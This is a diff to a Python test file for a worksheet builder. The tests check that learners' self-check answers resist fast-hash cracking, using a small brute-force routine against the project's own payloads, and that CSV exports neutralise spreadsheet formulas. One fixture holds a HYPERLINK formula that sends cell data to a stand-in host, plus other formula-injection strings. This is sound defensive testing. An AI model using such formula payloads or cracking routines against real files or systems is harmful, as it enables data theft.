@@ -17,7 +17,7 @@ import nbformat
 import pytest
 
 from helpers.answers import normalise_text
-from helpers.build import aesgcm, selfcheck
+from helpers.build import selfcheck
 
 LESSON = "99_worksheet"
 YAML = textwrap.dedent("""\
@@ -151,13 +151,19 @@ def _text(path: Path) -> str:
 
 
 # ---------------------------------------------------------------- without a browser
-def test_aes_gcm_matches_the_published_test_vectors():
+def test_aes_gcm_comes_from_the_cryptography_package_and_reads_back():
+    """The pure-Python AES is gone (issue 22): AES-GCM is the cryptography package's, in Web
+    Crypto's layout (IV, ciphertext, 16-byte tag); tests/test_browser.py decrypts it in Chromium."""
+    import base64
+
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    assert not (Path(selfcheck.__file__).parent / "aesgcm.py").exists()
     key = bytes(range(32))
-    assert aesgcm.aes256_block(key, bytes.fromhex("00112233445566778899aabbccddeeff")).hex() == \
-        "8ea2b7ca516745bfeafc49904b496089"  # FIPS-197, appendix C.3
-    assert aesgcm.encrypt(bytes(32), bytes(12), bytes(16)).hex() == \
-        "cea7403d4d606b6e074ec5d3baf39d18d0d1c8a799996bf0265b98b5d48ab919"  # GCM test case 14
-    assert aesgcm.encrypt(bytes(32), bytes(12), b"").hex() == "530f8afbc74536b9a963b4f1c4cb738b"
+    packed = base64.b64decode(selfcheck.encrypt(key, b"an explanation"))
+    assert len(packed) == 12 + len(b"an explanation") + 16
+    assert AESGCM(key).decrypt(packed[:12], packed[12:], None) == b"an explanation"
+    assert selfcheck.encrypt(key, b"x") != selfcheck.encrypt(key, b"x"), "the IV must be fresh"
 
 
 def test_a_numbers_tolerance_grid_holds_every_accepted_value():
@@ -180,6 +186,124 @@ def test_a_payload_holds_no_answer_and_no_explanation(worksheet_pages):
                 assert normalise_text(form) not in normalise_text(text), f"{key}: {form!r} is readable"
 
 
+# ---------------------------------------------------------------- a cracker, as the reviewer wrote one
+def page_payloads(path: Path) -> dict[str, dict]:
+    """Every self-check payload in a page, by exercise id: all a cracker has to work with."""
+    import json
+
+    blocks = re.findall(r"<script[^>]*id=.ih-check-[^>]*>(.*?)</script>", _text(path), re.S)
+    return {p["id"]: p for p in map(json.loads, blocks)}
+
+
+def fast_digests(payload: dict) -> set[str]:
+    """Every hex string in a payload that a cracker could test with one fast hash."""
+    import json
+
+    tags = {k["t"] for k in payload["keys"]}
+    return set(re.findall(r'"([0-9a-f]{16,64})"', json.dumps(payload))) - tags
+
+
+def crack_number_fast(payload: dict) -> tuple[int, int, int]:
+    """Follow the bins with SHA-256 only, as the reviewer's script did: (lowest, highest scaled
+    value the fast digests leave, hashes spent)."""
+    import base64
+    import hashlib
+
+    salt, width, top = base64.b64decode(payload["salt"]), payload["w0"], len(payload["bins"]) - 1
+    spent, found = 0, None
+    for level, wanted in enumerate(payload["bins"]):
+        j = top - level
+        tries = range(-20, 21) if found is None else range(found * 10, found * 10 + 10)
+        for b in tries:
+            spent += 1
+            if hashlib.sha256(salt + f"b:{j}:{b}".encode()).hexdigest()[:24] == wanted:
+                found = b
+                break
+        else:
+            raise AssertionError(f"level {j}: no bin matched")
+    return found * width, found * width + width - 1, spent
+
+
+def test_a_number_cannot_be_recovered_without_the_slow_derivation(worksheet_pages):
+    """Issue 22, defect 5: the bins held salted SHA-256 of the answer down to the exact value,
+    so a script read it in about 200 fast hashes. Now the fast digests stop at the tolerance:
+    they leave several values, and only a PBKDF2 derivation tells which one unlocks."""
+    import base64
+    import hashlib
+
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    payload = page_payloads(worksheet_pages["learner"])["ws-number"]
+    centre = 375  # 37.5 at one decimal
+    candidates = set()
+    for j in range(-3, 20):
+        candidates |= {f"b:{j}:{centre}", f"b:{j}:{centre // 10}", f"n:1:{centre}", f"{centre}", "37.5", f"i:{centre}"}
+    salt = base64.b64decode(payload["salt"])
+    exposed = {hashlib.sha256(salt + c.encode()).hexdigest()[:24] for c in candidates} & fast_digests(payload)
+    assert not exposed, "a fast digest pins the exact answer"
+    low, high, spent = crack_number_fast(payload)
+    assert low <= centre <= high and spent < 400, "the cracker no longer follows the bins"
+    assert high - low + 1 >= 11, "the fast digests narrow the answer below the tolerance (±0.5: 11 values)"
+    # The rest needs the slow derivation: each guess costs PBKDF2 at the page's iteration count.
+    slow = 0
+    for value in range(low, high + 1):
+        form = f"n:1:{value}"
+        slow_base = selfcheck.derive(selfcheck.slow_secret(form, payload["w0"]), salt, payload["it"])
+        slow += 1
+        tag = selfcheck.mac(slow_base, "t:" + form)[:12].hex()
+        entry = next((k for k in payload["keys"] if k["t"] == tag), None)
+        if entry:
+            wrapped = base64.b64decode(entry["w"])
+            content = AESGCM(selfcheck.mac(slow_base, "w:" + form)).decrypt(wrapped[:12], wrapped[12:], None)
+            packed = base64.b64decode(payload["ex"][entry["e"]]["c"])
+            text = AESGCM(content).decrypt(packed[:12], packed[12:], None).decode()
+            break
+    else:
+        raise AssertionError("the slow route did not unlock either")
+    assert "Ten thousand divided" in text and slow >= 1
+    assert payload["it"] == selfcheck.ITERATIONS >= 50_000, "fewer rounds than make bench chose"
+
+
+def test_an_exact_number_has_no_fast_digest_either():
+    """Tolerance 0 (a count): the finest bin still holds two values."""
+    import base64
+    import hashlib
+
+    spec = {"id": "t", "type": "number", "answer": 224, "tolerance": 0, "explanation": "x"}
+    payload = selfcheck.payload(spec, iterations=1000)
+    salt = base64.b64decode(payload["salt"])
+    assert payload["w0"] >= 2
+    exact = {hashlib.sha256(salt + f"b:{j}:{224}".encode()).hexdigest()[:24] for j in range(-3, 20)}
+    assert not exact & fast_digests(payload)
+
+
+def test_set_and_order_items_need_the_slow_derivation(worksheet_pages):
+    """Their item and position digests matched fast SHA-256 over the letters (15 ms a set)."""
+    import base64
+    import hashlib
+
+    payloads = page_payloads(worksheet_pages["learner"])
+    for key in ("ws-set", "ws-order"):
+        payload = payloads[key]
+        salt = base64.b64decode(payload["salt"])
+        fast = {hashlib.sha256(salt + f"{prefix}{letter}".encode()).hexdigest()[:24]
+                for letter in "abcdefghijkl" for prefix in ("i:", *(f"p:{i}:" for i in range(12)))}
+        assert not fast & fast_digests(payload), f"{key}: a letter has a fast digest"
+        slow = {selfcheck.item_digest(selfcheck.item_base(salt, letter, payload["it"])) for letter in "abc"}
+        assert set(payload["items"]) <= slow, f"{key}: the slow route does not find the items"
+
+
+def test_payloads_are_cached_by_exercise_language_and_spec(tmp_path):
+    spec = {"id": "c-1", "type": "choice", "options": ["x", "y"], "answer": "y", "explanation": "because"}
+    first = selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path)
+    assert selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path) == first
+    assert selfcheck.cached_payload(spec, "pt", iterations=1000, folder=tmp_path) != first
+    changed = selfcheck.cached_payload({**spec, "explanation": "new"}, "es", iterations=1000, folder=tmp_path)
+    assert changed["ex"] != first["ex"], "an edited explanation kept the old payload"
+    (tmp_path / "c-1.es.json").write_text("{damaged", encoding="utf-8")
+    assert selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path)["keys"]
+
+
 def test_learner_page_hides_setup_folds_code_and_keeps_answers_out(worksheet_pages):
     learner, facilitator = _text(worksheet_pages["learner"]), _text(worksheet_pages["facilitator"])
     assert "from helpers import load, check" not in learner, "the set-up cell is still shown"
@@ -197,6 +321,26 @@ def test_learner_page_hides_setup_folds_code_and_keeps_answers_out(worksheet_pag
     assert "connect-src 'none'" in policy and "default-src 'none'" in policy
     assert "https:" not in policy and "http:" not in policy
     assert "'unsafe-eval'" not in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+
+
+def test_editions_are_kept_apart_and_say_what_the_self_checks_hide(worksheet_pages, tmp_path):
+    """Issue 22: the learner index and pages link no facilitator edition; facilitators get
+    facilitator.html; the banner and the facilitator's notes say per kind what is hidden."""
+    from helpers.build.index import write_index
+    from helpers.build.selfcheck import strength_note
+
+    hrefs = lambda text: set(re.findall(r'href="([^"#]+)', text))  # noqa: E731
+    learner, facilitator = _text(worksheet_pages["learner"]), _text(worksheet_pages["facilitator"])
+    assert not [h for h in hrefs(learner) if "facilitator" in h], "a learner page links the answers"
+    assert "index.html" in hrefs(learner) and "facilitator.html" in hrefs(facilitator)
+    assert "trying each option finds a choice" in learner and "keep the answers out of this page" not in learner
+    assert "a short script does it in under a second" in facilitator.replace("&#x27;", "'")
+    info = {"stem": LESSON, "title": "99 · A worksheet test", "duration": "20 min", "objectives": []}
+    index = write_index([info], tmp_path, {})
+    front, back = index.read_text(encoding="utf-8"), (tmp_path / "facilitator.html").read_text(encoding="utf-8")
+    assert f"{LESSON}.html" in hrefs(front) and not [h for h in hrefs(front) if "facilitator" in h]
+    assert {f"{LESSON}.facilitator.html", f"{LESSON}.html"} <= hrefs(back)
+    assert "do not send them to learners" in back and strength_note("facilitator")[:40] in back.replace("&#x27;", "'")
 
 
 # ---------------------------------------------------------------- in Chromium, offline
@@ -358,6 +502,46 @@ def chart_rows(spec: dict) -> dict[str, list[dict]]:
             for name, rows in spec["datasets"].items()}
 
 
+def csv_shown(value) -> str:
+    """What a chart's CSV download holds for a cell: dates at midnight as dates, and a text
+    that a spreadsheet would run as a formula behind a quote (numbers stay numbers)."""
+    if value is None:
+        return ""
+    text = str(value)
+    if isinstance(value, str):
+        text = re.sub(r"^(\d{4}-\d{2}-\d{2})T00:00:00(\.0+)?Z?$", r"\1", text)
+        if re.match(r"[=+\-@\t\r]", text) and not re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", text):
+            text = "'" + text
+    return text
+
+
+@pytest.mark.browser
+def test_csv_downloads_neutralise_formulas_and_keep_numbers_and_dates(browser, tmp_path):
+    """Issue 22: '=HYPERLINK(...)' in a note reached the CSV as a live formula; dates came
+    out as 1989-12-01T00:00:00. Numbers, negative ones too, must stay numbers."""
+    import json
+
+    rows = [{"note": '=HYPERLINK("https://example.invalid/?q="&B2,"see source")', "value": -52.2,
+             "as_of": "1989-12-01T00:00:00", "text_number": "-84.6", "a": "+1 more", "b": "@SUM(A1)",
+             "c": "-1+2", "d": "\tTAB", "e": "\rCR", "f": "plain, with comma", "_hidden": 1}]
+    script = (Path(selfcheck.__file__).parent / "assets" / "handout.js").read_text(encoding="utf-8")
+    page_file = tmp_path / "csv.html"
+    page_file.write_text('<!DOCTYPE html><html><body><script type="application/json" id="t-spec">'
+                         + json.dumps({"datasets": {"d": rows}}) + "</script><script>" + script
+                         + "</script></body></html>", encoding="utf-8")
+    page = open_offline(browser, page_file)
+    try:
+        text = page.evaluate("ihChartCsv('t-spec', 'd')")
+    finally:
+        page.close()
+    got = next(csv.DictReader(io.StringIO(text)))
+    assert got["note"] == "'" + rows[0]["note"] and got["a"] == "'+1 more" and got["b"] == "'@SUM(A1)"
+    assert got["c"] == "'-1+2" and got["d"] == "'\tTAB" and got["e"] == "'\rCR"
+    assert got["value"] == "-52.2" and got["text_number"] == "-84.6", "a negative number was altered"
+    assert got["as_of"] == "1989-12-01" and got["f"] == "plain, with comma" and "_hidden" not in got
+    assert all(got[k] == csv_shown(v) for k, v in rows[0].items() if not k.startswith("_") and k != "value")
+
+
 def check_downloads(page, specs: list[dict]) -> int:
     """Every chart has a data box and CSV links whose files hold the rows the chart draws."""
     from helpers.build.browser import wait_for_charts
@@ -388,7 +572,7 @@ def check_downloads(page, specs: list[dict]) -> int:
                         if isinstance(value, (int, float)) and not isinstance(value, bool):
                             assert float(got[key]) == value, f"chart {i + 1}, {key}: {got[key]!r} != {value!r}"
                         else:
-                            shown = "" if value is None else str(value)
+                            shown = csv_shown(value)
                             assert got[key] == shown, f"chart {i + 1}, {key}: {got[key]!r} != {shown!r}"
             else:
                 assert rows, f"chart {i + 1}: the CSV is empty"
